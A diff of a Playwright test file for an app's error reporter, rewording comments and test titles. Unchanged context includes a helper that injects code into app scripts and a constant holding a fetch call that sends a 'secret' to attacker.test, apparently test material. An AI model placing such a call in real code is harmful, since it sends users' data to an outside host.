@@ -10,7 +10,7 @@ async function waitForReport(page: Page) {
   return { body, status: response.status() };
 }
 
-/** Adds code to a script of the app, so that its errors are those of our own code. */
+/** Adds code to a script of the app, so that errors in this code count as the app's own. */
 const addCode = (page: Page, script: RegExp, code: string) =>
   page.route(script, async (route) => {
     const response = await route.fetch();
@@ -19,7 +19,7 @@ const addCode = (page: Page, script: RegExp, code: string) =>
 
 const CONNECT_ELSEWHERE = "fetch('https://attacker.test/diary?word=secret').catch(() => undefined)";
 
-/** Waits until the browser has the script that reports errors, with what it imports. */
+/** Waits until the browser has loaded the script that reports errors and the script that it imports. */
 const waitForReportScript = (page: Page) =>
   page.waitForFunction(() => {
     const names = performance.getEntriesByType('resource').map(({ name }) => name);
@@ -160,7 +160,7 @@ test('reports that the app itself is missing', async ({ page, expectConsole }) =
   });
 });
 
-test('reports the error of a component', async ({ learner, page, expectConsole }) => {
+test('reports an error in a component', async ({ learner, page, expectConsole }) => {
   expectConsole(/cannot scroll/u);
   await learner.open();
   await page.evaluate("window.scrollTo = () => { throw new Error('The page cannot scroll') }");
@@ -183,7 +183,7 @@ test('reports the error of a component', async ({ learner, page, expectConsole }
   });
 });
 
-test('sends a report when the connection returns, and repetitions when the learner leaves the tab', async ({
+test('sends a report when the connection returns, and repeated errors when the learner leaves the tab', async ({
   context,
   learner,
   page,
